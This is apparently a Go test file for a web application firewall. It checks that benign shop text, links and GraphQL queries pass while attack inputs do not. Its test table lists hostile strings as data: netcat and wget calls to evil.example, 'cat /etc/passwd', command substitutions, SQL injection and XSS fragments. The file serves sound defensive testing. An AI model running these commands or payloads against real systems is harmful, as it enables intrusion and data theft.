package waf

import "testing"

// TestShapes: what people write, links and documents are recognized, and nothing that a shell
// or a database would carry out.
func TestShapes(t *testing.T) {
	for text, want := range map[string]shape{
		"WC Ente Citrus 750 ml":                              prose,
		"Perl Deo 24h":                                       prose,
		"Lindenweg 7; HH":                                    prose,
		"Timeout while contacting the issuer":                prose,
		"builtin-dark-template":                              prose,
		"Bitte bei Müller klingeln (2. OG links), danke!":    prose,
		"Größe: 38/40 & 42 – 9,95 €":                         prose,
		"?idsite=1&rec=1&url=https%3A%2F%2Fshop.example":     link,
		"https://preis.example/klick?id=1&url=x":             link,
		`{"query":"{route{url}}"}`:                           document,
		"query Produkte($input:ProductInput!){products{id}}": document,

		"Mein Chef trinkt Tee; nice time":                                   prose,
		"Perl ist z.B. bei Dr.Hauschka im Angebot":                          prose,
		"it's 'gut'! Immer":                                                 quotation,
		"\"Sehr gut\"! Immer wieder":                                        quotation,
		"data:image/png;base64,iVBORw0KGgo=":                                picture,
		"FPID2.2.tnU619I1atYXRHbrNS8yvM7ce5EGiUZ8OnsDVzJpXAs=.1658172099":   token,
		"FPID2.2.tnU619I1atYXRHbrNS8yvM7ce5EGiUZ8OnsDVzJpXAs%3D.1658172099": token,

		"Insert (Einsatz) für die Schublade":     remark,
		"Left (WA, RR), dann rechts":             remark,
		"File (PDF) anbei, Header (oben) falsch": remark,
		"Night Sleep (60 Stück)":                 remark,
		"Menü/Konto > Passwort":                  umlaut,

		"System (Silos) or 1":                               0,
		"x) or ascii (Password":                             0,
		"System (Silos) und Exec (Boss)":                    remark,
		"An operating system (OS) is a software":            remark,
		"old storage system (Silos) and an ancient well":    remark,
		"ascii (Password)-- foo bar":                        0,
		"1 or ascii (Password) or foo":                      0,
		"1 union all select ascii (Password) from users uu": 0,
		"ascii (Password); foo bar":                         0,
		"ascii (Password) and not id":                       0,
		"ascii (Password)":                                  0,
		"ascii (Password) desc":                             0,
		"Foo bar ()":                                        0,
		"Foo or ascii (Password)":                           0,
		"foo bar'; ascii (Password)":                        0,
		"system (Wget x)":                                   0,
		"Left (User (1))":                                   0,
		"\xbcscript>":                                       0,
		"ü/script>":                                         0,
		"¼/a>":                                              0,
		"ü/a b=c>":                                          0,

		"Lindenweg 7; touch of silver":       prose,
		"x;Perl Deo;y":                       prose,
		"x;find x":                           0,
		"x;ping y":                           0,
		"x;env id":                           0,
		";nice id":                           0,
		";touch":                             0,
		" ;cargo install evil":               0,
		"|tac x":                             0,
		"&touch":                             0,
		"route Evil.Com":                     0,
		"route evil.com":                     0,
		"touch & RD x":                       0,
		"nice time bash":                     0,
		"\"! Y":                              0,
		"CONCAT('Hallo, ',s,'!')":            0,
		"if (1) equ (1) foo bar":             0,
		"x \"!":                              0,
		"'x'!y":                              0,
		"x' ! 1":                             0,
		"'x'! union select 1":                0,
		"'x'! user (1)":                      0,
		"data:image/svg+xml;base64,PHN2Zz4=": 0,
		"data:text/html;base64,PHN2Zz4=":     0,
		"data:image/png;base64,iVBOR' or 1":  0,
		"aaaaaaaaaaaaaaA1=%22":               0,
		"x/onload=alert":                     0,
		"x\" onload=aA1.bbbbbbbbbbb":         0,
		"perl -e 'print 1'":                  0,
		"nc evil.example 4444":               0,
		"wget http://evil.example/x":         0,
		"cat /etc/passwd":                    0,
		"id;ls":                              0,
		"sudo su":                            0,
		"timeout 3 bash":                     0,
		"x && curl evil.example":             0,
		"x | nc evil 1":                      0,
		"$(whoami)":                          0,
		"`id`":                               0,
		"a > /tmp/x":                         0,
		"p'e'rl x.pl":                        0,
		"?a=1&whoami":                        0,
		"{$(id)}":                            0,
	} {
		all, misread := shapeOf(text)
		if want == 0 && misread != 0 || want != 0 && all&want == 0 {
			t.Errorf("%q: shapes %b, misread %b, want %b", text, all, misread, want)
		}
	}
}

func TestTypes(t *testing.T) {
	for _, c := range []struct {
		media, family string
		want          bool
	}{
		{"image/heic", "image/*", true},
		{"application/fhir+json", "*/*+json", true},
		{"application/fhir+xml", "application/*+xml", true},
		{"text/csv", "image/*", false},
		{"application/json", "*/*+json", false},
		{"application/+json", "*/*+json", false},
		{"image/a|b", "image/*", false},
		{"image", "image/*", false},
	} {
		if got := isOf(c.media, c.family); got != c.want {
			t.Errorf("%s of %s: %t, want %t", c.media, c.family, got, c.want)
		}
	}
	for media, valid := range map[string]bool{
		"text/csv": true, "image/*": true, "*/*+json": true, "application/*+xml": true,
		"*": false, "*/*": false, "json": false, "a b/c": false, "a/b|c": false, "*/json": false, "a/*b": false, "": false,
	} {
		if err := checkType(media); (err == nil) != valid {
			t.Errorf("%q: %v, want valid %t", media, err, valid)
		}
	}
}
